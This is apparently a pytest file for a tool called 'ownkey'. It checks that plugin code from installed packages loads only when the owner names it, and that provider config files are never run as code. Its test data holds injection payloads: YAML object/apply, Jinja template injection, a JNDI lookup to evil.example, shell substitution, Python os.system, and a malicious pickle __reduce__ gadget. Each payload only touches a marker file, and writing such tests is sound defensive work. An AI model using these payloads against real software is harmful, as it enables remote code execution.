"""Code of other packages runs only where the owner has named it; what is data is never run."""

from __future__ import annotations

import json
import pickle
from pathlib import Path

import pytest

from house import KEYS, SRC, Simulator, environment, gateway, run
from ownkey.catalog.load import Catalogue
from ownkey.wires.wire import WIRE_NAMES

PACKAGE = """
import os
open(os.environ["LOADED"], "a").write(__name__ + " ")
from ownkey.wires.openai_chat.wire import OpenAIChat


class Acme(OpenAIChat):
    name = "acme"
"""


def installed(place: Path, module: str) -> None:
    """A distribution whose entry point brings the wire `acme`."""
    about = place / f"{module}-1.dist-info"
    about.mkdir(parents=True)
    (place / f"{module}.py").write_text(PACKAGE)
    (about / "METADATA").write_text(f"Metadata-Version: 2.1\nName: {module}\nVersion: 1\n")
    (about / "entry_points.txt").write_text(f"[ownkey.wires]\nacme = {module}:Acme\n")


@pytest.fixture
def env(tmp_path: Path, simulator: Simulator) -> dict[str, str]:
    """A home with a provider that speaks `acme`, which a package brings."""
    installed(tmp_path / "site", "ownkey_acme")
    home = tmp_path / "home"
    (home / "providers").mkdir(parents=True, mode=0o700)
    text = f'id = "acme"\nname = "Acme"\nkind = "local"\nwire = "acme"\nbase_url = "{simulator.url}/v1"\n'
    (home / "providers" / "acme.toml").write_text(text)
    home.chmod(0o700)
    return environment(
        home,
        OWNKEY_ALLOW_PRIVATE_HOSTS=f"127.0.0.1:{simulator.port}",
        PYTHONPATH=f"{SRC}:{tmp_path / 'site'}",
        LOADED=str(tmp_path / "loaded"),
    )


def test_P10_a_wire_that_is_installed_and_not_named_is_never_loaded(
    tmp_path: Path, env: dict[str, str], simulator: Simulator
) -> None:
    for arguments in (("providers", "list"), ("doctor",), ("chat", "-m", "acme/sim-small", "Hello.")):
        done = run(env, *arguments)
        assert not (tmp_path / "loaded").exists(), arguments
    assert done.returncode != 0
    assert "OWNKEY_WIRES" in run(env, "doctor").stdout

    with gateway(Path(env["OWNKEY_HOME"]), simulator, PYTHONPATH=env["PYTHONPATH"], LOADED=env["LOADED"]) as running:
        body = json.dumps({"request": {"model": "demo", "messages": []}, "wire": "acme"}).encode()
        answer = running.send("POST", "/api/byok/quote", body, running.own)
        assert "No client speaks that wire here" in answer.body.decode()
    assert not (tmp_path / "loaded").exists()


def test_P10_a_wire_that_is_named_is_loaded_when_it_is_spoken(tmp_path: Path, env: dict[str, str]) -> None:
    named = env | {"OWNKEY_WIRES": "acme"}
    looked = run(named, "doctor")
    assert "acme, of another package" in looked.stdout
    assert not (tmp_path / "loaded").exists()
    assert run(named, "keys", "set", "acme", given=KEYS["openai"]).returncode == 0
    assert "You wrote: Hello." in run(named, "chat", "-m", "acme/sim-small", "Hello.", "--no-stream").stdout
    assert set((tmp_path / "loaded").read_text().split()) == {"ownkey_acme"}


def test_P10_a_wire_that_two_packages_bring_is_loaded_from_neither(tmp_path: Path, env: dict[str, str]) -> None:
    installed(tmp_path / "site", "ownkey_other")
    said = run(env | {"OWNKEY_WIRES": "acme"}, "chat", "-m", "acme/sim-small", "Hello.")
    assert said.returncode != 0
    assert "Two packages bring a wire named 'acme'" in said.stderr
    assert not (tmp_path / "loaded").exists()


def test_P10_a_wire_that_is_named_and_not_there_is_told_by_the_doctor(env: dict[str, str]) -> None:
    said = run(env | {"OWNKEY_WIRES": "bolt"}, "doctor")
    assert "OWNKEY_WIRES names bolt, which no package brings" in said.stdout
    assert said.returncode == 1


class _Runs:
    """What a pickle of it does where it is loaded."""

    def __init__(self, marker: Path) -> None:
        self.marker = marker

    def __reduce__(self) -> tuple[object, tuple[str]]:
        return Path.touch, (self.marker,)  # type: ignore[return-value]


PROVIDER = 'id = "evil"\nname = {name}\nkind = "cloud"\nwire = "openai-chat"\nbase_url = "https://evil.example/v1"\n'
TEXTS = (
    "!!python/object/apply:os.system ['touch {marker}']",
    "{{{{ cycler.__init__.__globals__.os.system('touch {marker}') }}}}",
    "${{jndi:ldap://evil.example/a}}",
    "$(touch {marker})",
    "__import__('os').system('touch {marker}')",
    "%(touch)s {{0.__class__}}",
)


@pytest.mark.parametrize("text", TEXTS)
def test_P06_what_looks_like_code_in_a_providers_file_is_a_text(tmp_path: Path, text: str) -> None:
    marker, folder = tmp_path / "marker", tmp_path / "providers"
    folder.mkdir()
    written = text.format(marker=marker)
    (folder / "evil.toml").write_text(PROVIDER.format(name=json.dumps(written)))
    catalogue = Catalogue(folder, wires=WIRE_NAMES)
    names = [provider.name for provider in catalogue.all() if provider.id == "evil"]
    assert names in ([written], []), "read as it stands, or refused"
    assert names or catalogue.problems
    assert not marker.exists()


def test_P06_a_file_of_another_form_in_the_folder_is_not_read(tmp_path: Path) -> None:
    marker, folder = tmp_path / "marker", tmp_path / "providers"
    folder.mkdir()
    runs = f"import pathlib; pathlib.Path({str(marker)!r}).touch()\n"
    for name in ("evil.py", "__init__.py", "conftest.py", "evil.pth"):
        (folder / name).write_text(runs)
    for name in ("evil.yaml", "evil.yml", "evil.json"):
        (folder / name).write_text(TEXTS[0].format(marker=marker))
    for name in ("evil.pickle", "evil.pkl", "evil.toml"):
        (folder / name).write_bytes(pickle.dumps(_Runs(marker)))
    catalogue = Catalogue(folder, wires=WIRE_NAMES)
    assert "evil" not in [provider.id for provider in catalogue.all()]
    assert [problem.file for problem in catalogue.problems] == ["evil.toml"]
    assert not marker.exists()
